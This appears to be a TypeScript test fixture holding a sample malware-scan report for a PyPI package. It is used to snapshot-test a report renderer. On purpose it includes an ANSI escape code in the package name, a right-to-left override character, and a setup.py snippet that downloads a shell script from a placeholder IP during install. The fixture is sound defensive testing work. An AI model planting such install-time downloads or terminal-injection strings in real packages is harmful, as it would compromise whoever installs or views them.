import type { Report } from '../model.ts';

/** A hand-made report shared by the renderer snapshot tests; it carries hostile strings on purpose. */
export const sampleReport: Report = {
  schemaVersion: '1.0.0',
  tool: { name: 'assay', version: '0.0.0-test' },
  generatedAt: '2026-11-22T00:00:00.000Z',
  target: {
    ecosystem: 'pypi',
    name: 'demo\u001b[31mpkg',
    version: '1.0.0',
    artifact: { file: 'demo-1.0.0.tar.gz', sha256: 'a'.repeat(64), size: 2048, format: 'tar.gz' },
  },
  verdict: {
    level: 'fail',
    reasons: [
      {
        issue: 'install-time-network-access',
        severity: 'high',
        title: 'Reaches the network while it is being installed.',
      },
    ],
  },
  issues: [
    {
      id: 'install-time-network-access',
      title: 'Reaches the network while it is being installed.',
      category: 'malware',
      severity: 'high',
      riskLabel: 'Causes risk: code that runs on every install',
      problem: 'Code in setup.py runs with the rights of whoever installs the package.',
      nextSteps: ['Read setup.py before installing.', 'Install in a sandbox.'],
      detail: 'setup.py downloads from http://203.0.113.9:8080/x.sh',
      references: { reversinglabs: ['TH16105'] },
      evidence: [
        {
          behavior: 'uses-http-client',
          file: 'setup.py',
          line: 7,
          column: 1,
          snippet: 'urlopen("http://203.0.113.9:8080/x.sh")',
        },
      ],
      prevalence: null,
    },
  ],
  behaviors: [
    {
      id: 'url-nonstandard-port',
      title: 'Contains URLs that use non-standard ports.',
      category: 'network',
      severity: 'low',
      count: 5,
      occurrences: [
        { file: 'setup.py', line: 7, column: 10, snippet: 'http://203.0.113.9:8080/x.sh\u202e' },
        { file: 'README', line: 1, column: 1, snippet: 'http://localhost:8000' },
        { file: 'a.py', line: 2, column: 1, snippet: 'x' },
        { file: 'b.py', line: 3, column: 1, snippet: 'y' },
        { file: 'c.py', line: 4, column: 1, snippet: 'z' },
      ],
      prevalence: {
        top100: 34,
        top1k: 261,
        top10k: 1650,
        community: 58747,
        packages: { top100: 100, top1k: 1000, top10k: 4200, community: 312004 },
        covered: { top100: true, top1k: true, top10k: false, community: true },
        band: 'common',
      },
    },
    {
      id: 'no-source-repository',
      title: 'Declares no source code repository.',
      category: 'metadata',
      severity: 'low',
      count: 1,
      occurrences: [{ file: 'PKG-INFO', field: 'Project-URL', snippet: 'no repository URL' }],
      prevalence: null,
    },
  ],
  vulnerabilities: [],
  completeness: { complete: true, limitHits: [], analysisProblems: [], detectorErrors: [] },
  metadata: { sources: [{ file: 'PKG-INFO', kind: 'PKG-INFO' }], conflicts: [], dependencies: 0 },
  data: { prevalenceIndex: null, vulnerabilityDatabase: null, snapshots: [] },
  stats: { files: 3, bytes: 2048, sourceFiles: 1, durationMs: 12 },
};
